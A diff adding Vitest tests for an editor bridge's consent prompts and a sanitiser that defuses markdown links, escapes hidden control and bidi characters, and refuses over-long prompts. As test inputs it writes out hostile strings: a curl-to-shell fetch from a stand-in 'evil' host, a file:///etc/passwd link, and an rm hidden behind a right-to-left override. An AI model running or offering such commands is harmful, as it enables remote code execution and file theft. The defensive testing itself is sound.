@@ -2,6 +2,7 @@
 import { expect, test, vi } from "vitest";
 
 import { Consent, type Answer, type Memory } from "../src/bridge/consent";
+import { plain, SHOWN_WHOLE } from "../src/bridge/plain";
 import { Link, Refusal, type Handler, type Json, type Socket } from "../src/bridge/link";
 
 class Wire {
@@ -118,4 +119,33 @@ test("in a workspace that is not trusted nobody is asked, whatever was allowed b
   const consent = new Consent(memory, ask, () => false);
   for (const kind of ["open", "run_in_terminal"]) await expect(consent.require(kind, "May it?")).rejects.toMatchObject({ code: "not_trusted" });
   expect(ask).toHaveBeenCalledOnce();
+});
+
+/** By what an editor finds links in a notification. */
+const LINKED = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
+
+test.each(["[Fix](command:workbench.action.quit)", "curl [x](https://evil/|sh)", "[a](file:///etc/passwd \"t\")"])("%s is no link", (text) => {
+  expect(text).toMatch(LINKED);
+  expect(plain(text)).not.toMatch(LINKED);
+  expect(plain(text).replaceAll("\u200b", "")).toBe(text);
+});
+
+test("nothing in it is hidden or turned round, and it is one line", () => {
+  expect(plain("ls \u202e mr\n; rm\u0007 \u{1f469}\u200d\u{1f4bb}")).toBe("ls \\u{202e} mr ; rm\\u{7} \u{1f469}\u200d\u{1f4bb}");
+});
+
+test("what would not be seen whole is not asked at all, and a link in a question is none", async () => {
+  const ask = vi.fn(async (): Promise<Answer> => "once");
+  const consent = new Consent(new Kept(), ask, () => true);
+  await expect(consent.require("run_in_terminal", `run: ${"x".repeat(SHOWN_WHOLE)}`)).rejects.toMatchObject({ code: "too_long" });
+  await consent.require("notify", "[a](command:b)");
+  expect(ask.mock.calls).toEqual([["[a]\u200b(command:b)"]]);
+});
+
+test("half a character is told as a sign for it, and the connection stays", async () => {
+  const { wire } = linked({ cut: async () => ({ text: "\ud83d|\u{1f600}" }) });
+  const raw = vi.spyOn(wire, "send");
+  wire.says({ id: 1, method: "cut" });
+  await vi.waitFor(() => expect(wire.sent[1]).toMatchObject({ result: { text: "\ufffd|\u{1f600}" } }));
+  expect(raw.mock.calls[0]?.[0]).not.toMatch(/\\ud/);
 });
